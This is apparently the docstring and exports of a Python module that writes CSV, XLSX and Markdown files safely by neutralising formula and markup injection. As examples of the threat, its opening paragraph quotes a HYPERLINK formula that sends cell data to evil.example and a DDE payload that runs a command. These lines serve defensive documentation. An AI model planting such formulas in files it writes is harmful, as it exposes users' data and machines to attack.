"""One safe writer per format for the files other programs open: CSV, XLSX, Markdown (and Parquet, PDF).

Text in a journey comes from people and from files that may be hostile: a name such as
``=HYPERLINK("http://evil.example/?x="&A1,"Click me")``, an owner ``+cmd|' /C calc'!A0``, a title with
line breaks and ``<script>``. Every CSV, XLSX and Markdown file journeymap writes (the action plan, the
event log, the analysis table, and those still to come: surveys, reports, baselines) goes through these
functions, which keep such text inert, and writes atomically (:mod:`journeymap.io.atomic`): a failure
leaves no half-written file, and any :class:`OSError` names the output path.

**CSV** (:mod:`~journeymap.io.writers.delimited`): a text field starting with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return gets a leading ``'`` (OWASP's advice), numbers stay numbers::

    write_csv("plan.csv", frame, float_format="%.10g")   # or csv_text(frame) for the text
    with open_csv("events.csv", date_format="%Y-%m-%dT%H:%M:%S.%f") as out:
        for chunk in chunks:                             # tables larger than memory, a chunk at a time
            out.write(chunk)
    neutralise("=1+2")                                   # "'=1+2", for a single field

**XLSX** (:mod:`~journeymap.io.writers.workbook`): build the workbook with openpyxl as usual, but put every
value with :func:`put` (or :func:`append_row`), which writes text as a string cell (never a formula or
an error value, control characters dropped), and save with :func:`save_workbook` (checks every cell
again, atomic, dated by ``SOURCE_DATE_EPOCH``)::

    from openpyxl import Workbook
    book = Workbook(); sheet = book.active
    append_row(sheet, ["Intervention", "Impact"])
    put(sheet, 2, 1, name); put(sheet, 2, 2, 0.083, number_format="0.0%")
    save_workbook(book, "plan.xlsx")

**Markdown** (:mod:`~journeymap.io.writers.markdown`): one escaping function for headings, list items,
table cells and paragraphs (line breaks folded, HTML escaped, ``|`` and the markup characters escaped
once), a table builder and an atomic writer::

    f"## {markdown_text(title)}"
    markdown_table(["#", "Intervention"], [[1, name]], right=[0])
    write_markdown("plan.md", text)

**Parquet** (:func:`write_parquet`, needs pyarrow) keeps text exactly (no program runs it). **PDF** bytes
from Graphviz are written with :func:`write_pdf`, which sets their dates to ``SOURCE_DATE_EPOCH`` when
it is set (:mod:`~journeymap.io.writers.stamps`, the reproducible-builds convention; matplotlib's
PDFs already follow it).
"""

from journeymap.io.writers.delimited import (
    FORMULA_STARTS,
    CsvStream,
    csv_text,
    neutralise,
    open_csv,
    safe_frame,
    write_csv,
    write_parquet,
)
from journeymap.io.writers.html import html_text
from journeymap.io.writers.markdown import markdown_table, markdown_text, write_markdown
from journeymap.io.writers.stamps import build_time, is_reproducible, stamp_pdf, stamp_zip, write_pdf
from journeymap.io.writers.workbook import MAX_CELL_TEXT, append_row, cell_value, put, save_workbook, sheet_text

__all__ = [
    "FORMULA_STARTS",
    "MAX_CELL_TEXT",
    "CsvStream",
    "append_row",
    "build_time",
    "cell_value",
    "csv_text",
    "html_text",
    "is_reproducible",
    "markdown_table",
    "markdown_text",
    "neutralise",
    "open_csv",
    "put",
    "safe_frame",
    "save_workbook",
    "sheet_text",
    "stamp_pdf",
    "stamp_zip",
    "write_csv",
    "write_markdown",
    "write_parquet",
    "write_pdf",
]
